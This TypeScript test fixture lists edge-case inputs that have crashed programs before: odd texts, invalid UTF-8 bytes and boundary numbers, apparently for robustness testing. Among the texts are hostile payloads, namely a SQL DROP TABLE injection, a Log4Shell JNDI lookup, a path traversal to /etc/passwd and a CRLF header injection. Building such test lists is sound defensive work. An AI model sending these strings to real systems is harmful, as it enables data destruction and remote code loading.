/** Texts that programs have fallen over before. */
export const TEXTS: readonly Buffer[] = [
  '',
  '\0',
  'a\0b',
  '__proto__',
  'constructor',
  'toString',
  '\ufeffbom',
  '\u202eright to left',
  '🚀'.repeat(50),
  "'; DROP TABLE spans; --",
  '*:* OR (((',
  '${jndi:ldap://x/a}',
  '../../etc/passwd',
  '\r\nX-Injected: 1',
  'k'.repeat(300),
  'v'.repeat(70_000),
  '1e999',
  'NaN',
  'service.name',
  'authorization',
  'saga.id',
  'breaker.state',
]
  .map((text) => Buffer.from(text))
  .concat(
    // Not UTF-8: stray and missing continuations, overlong forms, a surrogate of its own, beyond U+10FFFF.
    ['80', 'c3', 'e282', 'f09f9a', 'c080', 'eda080', 'edb080eda080', 'f4908080', 'ff', 'fefe'].map((hex) =>
      Buffer.from(hex, 'hex'),
    ),
  );

/** Where integers of some width change their meaning. */
export const INTEGERS: readonly bigint[] = [
  0n,
  1n,
  127n,
  128n,
  255n,
  256n,
  65_535n,
  65_536n,
  2n ** 20n,
  2n ** 31n - 1n,
  2n ** 31n,
  2n ** 32n - 1n,
  2n ** 32n,
  2n ** 53n - 1n,
  2n ** 53n,
  2n ** 53n + 1n,
  2n ** 63n - 1n,
  2n ** 63n,
  2n ** 64n - 1n,
];

export const DOUBLES: readonly number[] = [
  0,
  -0,
  1,
  -1,
  0.1,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.NEGATIVE_INFINITY,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  5e-324,
  -1e308,
  2 ** 53,
  2 ** 64,
];
